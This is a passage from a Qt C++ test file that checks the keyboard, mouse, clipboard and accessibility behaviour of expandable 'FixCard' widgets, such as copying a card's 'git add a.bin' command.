    QVERIFY(!part<QToolButton>(u"Reinstall"_s, u"unfold"_s)->isVisible()); // there is no more of it
    FixCard *reboot = card(u"Reboot"_s);
    reboot->setFocus();
    QTest::keyClick(reboot, Qt::Key_Return);
    QVERIFY(reboot->isOpen());
    QTest::keyClick(reboot, Qt::Key_Space); // in vain: one line is enough
    QVERIFY(!reboot->isOpen());
    QVERIFY(reboot->hasFocus());
    QTest::keyClick(reboot, Qt::Key_Return);
    QVERIFY(reboot->isOpen());
    QTest::keyClick(reboot, Qt::Key_Return);
    QVERIFY(!reboot->isOpen());
    QTest::mouseClick(reboot, Qt::LeftButton, {}, QPoint(reboot->width() / 2, reboot->height() - 2));
    QVERIFY(reboot->isOpen());
}

void TestFixes::aClickOnTheTitleTakesTheCard()
{
    open(exampleEntry(), findingWith(u"a.bin"_s));
    FixCard *ask = card(u"Ask"_s);
    auto *title = ask->findChild<ProseView *>();
    QCOMPARE(title->toPlainText(), ask->title());
    QVERIFY(!ask->isOpen());
    QTest::mouseClick(title->viewport(), Qt::LeftButton, {}, title->viewport()->rect().center());
    QVERIFY(ask->isOpen());
    QVERIFY(ask->hasFocus());
    QTest::keySequence(ask, QKeySequence::Copy);
    QCOMPARE(QGuiApplication::clipboard()->text(), u"git add a.bin"_s);

    const QPoint word = title->cursorRect().center() + QPoint(4, 0);
    QTest::mouseDClick(title->viewport(), Qt::LeftButton, {}, word);
    QCOMPARE(title->textCursor().selectedText(), u"Ask"_s);
    QVERIFY(title->hasFocus()); // its words can be copied, too
}

void TestFixes::aCardCopiesItsCode()
{
    open(exampleEntry(), findingWith(u"a.bin"_s));
    card(u"Wait"_s)->setFocus();
    QTest::keySequence(card(u"Wait"_s), QKeySequence::Copy);
    QCOMPARE(QGuiApplication::clipboard()->text(), u"git add a.bin"_s);
    card(u"Reboot"_s)->setFocus();
    QTest::keySequence(card(u"Reboot"_s), QKeySequence::Copy);
    QCOMPARE(QGuiApplication::clipboard()->text(), u"Reboot"_s);
}

void TestFixes::everythingHasAName()
{
    open(exampleEntry(), findingWith(u"a.bin"_s));
    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
    const QList<QAbstractButton *> buttons = m_page->widget()->findChildren<QAbstractButton *>();
    for (const QAbstractButton *button : buttons)
        QVERIFY2(!button->isVisible() || !button->accessibleName().isEmpty() || !button->text().isEmpty(),
                 qPrintable(button->objectName()));
    const QList<FixCard *> cards = m_page->widget()->findChildren<FixCard *>();
    for (const FixCard *each : cards)
        QVERIFY(each->accessibleName().startsWith(each->title()));
    QVERIFY(card(u"Copy"_s)->accessibleName().contains(u"tried"_s));
}

QTEST_MAIN(TestFixes)
#include "tst_fixes.moc"
